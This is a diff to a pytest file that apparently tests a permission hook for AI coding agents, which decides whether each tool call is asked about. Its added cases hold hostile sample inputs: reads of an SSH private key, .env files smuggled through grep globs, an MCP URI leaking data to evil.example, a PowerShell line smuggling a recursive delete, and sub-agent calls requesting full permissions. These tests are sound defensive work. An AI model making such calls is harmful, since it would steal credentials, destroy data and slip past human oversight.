@@ -109,7 +109,7 @@ def told_before(tool: str, given: dict[str, object], dialect: Dialect = CLAUDE_C
 def test_what_an_agent_brings_along_itself_asks_nothing(dialect: Dialect) -> None:
     assert dialect.own_tools
     if dialect.before and dialect.before != SHELL:
-        assert {told_before(name, {"prompt": "look"}, dialect) for name in dialect.own_tools} == {"none"}
+        assert {told_before(name, {}, dialect) for name in dialect.own_tools} == {"none"}
 
 
 @pytest.mark.parametrize("mode", ["bypassPermissions", "default"])
@@ -125,6 +125,9 @@ def test_names_that_only_an_archive_knows_are_asked_about_in_every_mode(command:
 
 
 def test_a_helper_that_asks_less_than_its_agent_is_asked_about() -> None:
+    started = {"description": "Look", "prompt": "x", "subagent_type": "Explore", "model": "haiku"}
+    assert told_before("Agent", {**started, "run_in_background": True, "isolation": "worktree"}) == "none"
+    assert told_before("Skill", {"skill": "pdf", "args": "a.pdf"}) == "none"
     assert told_before("Task", {"prompt": "x", "mode": "plan"}) == "none"
     assert told_before("task", {"prompt": "x", "mode": "background"}, DIALECTS["copilot"]) == "none"
     assert told_before("Task", {"prompt": "x", "mode": "bypassPermissions"}) == "ask"
@@ -175,6 +178,24 @@ def test_a_file_whose_name_was_cut_on_the_way_asks_and_is_put_to_nobody() -> Non
         ("Grep", {"pattern": ".", "glob": "!zz,.env"}),
         ("Grep", {"pattern": ".", "glob": " !zz\t!{a,b},.env"}),
         ("Grep", {"pattern": ".", "glob": "!{,.env"}),
+        ("Grep", {"pattern": ".", "path": ["/home/anna/.ssh"]}),
+        ("Read", {"file_path": "a.py", "path": "/home/anna/.ssh/id_rsa"}),
+        ("Read", {"file_path": "a.py", "zap": 1}),
+        ("Read", {"file_path": ["/home/anna/.ssh/id_rsa"]}),
+        ("Read", {}),
+        ("LS", {"path": "src", "paths": ["/home/anna/.ssh"]}),
+        ("Glob", {"pattern": "*.py", "root": "/"}),
+        ("WebFetch", {"url": ["https://example.com"]}),
+        ("Agent", {"prompt": "x", "permissions": "all"}),
+        ("Agent", {"prompt": "x", "cwd": "/"}),
+        ("Agent", {"prompt": "x", "tools": ["*"], "dangerously": True}),
+        ("Skill", {"skill": "pdf", "allowed_tools": ["*"]}),
+        ("EnterWorktree", {"path": "/root"}),
+        ("ExitWorktree", {"action": "remove", "discard_changes": True}),
+        ("ReadMcpResourceTool", {"server": "x", "uri": "https://evil.example/?leak=what+was+found"}),
+        ("ReadMcpResourceTool", {"server": "x", "uri": "vault://kv/prod/db"}),
+        ("ReadMcpResourceTool", {"server": "x", "uri": "notes://team/secrets"}),
+        ("ReadMcpResourceTool", {"server": "x"}),
         ("Grep", {"pattern": "KEY", "path": "/home/anna"}),
         ("Task", {"prompt": "x", "mode": "BypassPermissions"}),
         ("Agent", {"prompt": "x", "isolation": "remote"}),
@@ -193,6 +214,16 @@ def test_what_an_agents_own_tool_would_touch_is_looked_at_in_every_form(tool: st
         ("gemini", "grep_search", {"pattern": ".", "include": ".env"}),
         ("copilot", "grep", {"pattern": ".", "glob": ".env"}),
         ("copilot", "view", {"path": ".env/"}),
+        ("copilot", "view", {"path": "a.py", "zap": 1}),
+        ("copilot", "grep", {"pattern": ".", "glob": "!zz .env"}),
+        ("copilot", "task", {"prompt": "x", "permissions": "all"}),
+        ("copilot", "powershell", {"command": 'echo "\\" ; Remove-Item -Recurse src ; echo "'}),
+        ("gemini", "read_many_files", {"include": ".env"}),
+        ("gemini", "read_file", {"file_path": "a.py", "absolute_path": "/home/anna/.ssh/id_rsa"}),
+        ("gemini", "list_directory", {"dir_path": "src", "zap": 1}),
+        ("gemini", "activate_skill", {"name": "pdf", "tools": ["*"]}),
+        ("codex", "view_image", {"path": "/home/anna/.ssh/id_rsa"}),
+        ("codex", "read_mcp_resource", {"server": "fs", "uri": "file:///home/anna/.ssh/id_rsa"}),
     ],
 )
 def test_so_is_it_with_other_agents(name: str, tool: str, given: dict[str, object]) -> None:
@@ -202,15 +233,37 @@ def test_so_is_it_with_other_agents(name: str, tool: str, given: dict[str, objec
 @pytest.mark.parametrize(
     "given",
     [
-        {"pattern": "a secret"},
+        {"pattern": "a secret", "output_mode": "content", "-n": True, "-C": 3, "head_limit": 20, "path": "src"},
+        {"pattern": "a secret", "path": None},
+        {"pattern": "x", "glob": "*.py,!{a,b}_test.py !.env"},
         {"pattern": "x", "glob": "*.{py,md}"},
         {"pattern": "x", "glob": "**/*"},
         {"pattern": "x", "glob": "!.env"},
-        {"pattern": "x", "glob": "*.py,!{a,b}_test.py !.env"},
     ],
 )
 def test_a_search_in_the_project_asks_nothing(given: dict[str, object]) -> None:
     assert told_before("Grep", given, permission_mode="bypassPermissions") == "none"
+
+
+@pytest.mark.parametrize(
+    ("name", "tool", "given"),
+    [
+        ("claude-code", "Read", {"file_path": "/w/a.py", "offset": 5, "limit": 100}),
+        ("claude-code", "Glob", {"pattern": "**/*.py", "path": "/w"}),
+        ("claude-code", "ReadMcpResourceTool", {"server": "docs", "uri": "docs://guide/a"}),
+        ("claude-code", "TodoWrite", {"todos": [{"content": "x", "status": "pending", "activeForm": "x"}]}),
+        ("claude-code", "PowerShell", {"command": r"Get-ChildItem src\app", "description": "List files"}),
+        ("copilot", "view", {"path": "/w/a.py", "view_range": [1, 20]}),
+        ("copilot", "task", {"description": "x", "prompt": "x", "agent_type": "explore"}),
+        ("gemini", "read_file", {"file_path": "/w/a.py", "start_line": 1, "end_line": 20}),
+        ("gemini", "grep_search", {"pattern": "x", "dir_path": "src", "include_pattern": "*.py", "context": 2}),
+        ("gemini", "read_many_files", {"include": ["src/**/*.py"], "exclude": ["a.py"]}),
+        ("gemini", "run_shell_command", {"command": "git status", "wait_for_previous": True}),
+        ("codex", "view_image", {"path": "docs/a.png"}),
+    ],
+)
+def test_an_ordinary_call_of_an_agents_own_tool_asks_nothing(name: str, tool: str, given: dict[str, object]) -> None:
+    assert told_before(tool, given, DIALECTS[name]) == "none"
 
 
 @pytest.mark.parametrize("folder", ["/var/www/shop", "/home/anna/shop", "/home/anna/.codex/worktrees/1a2b/shop"])
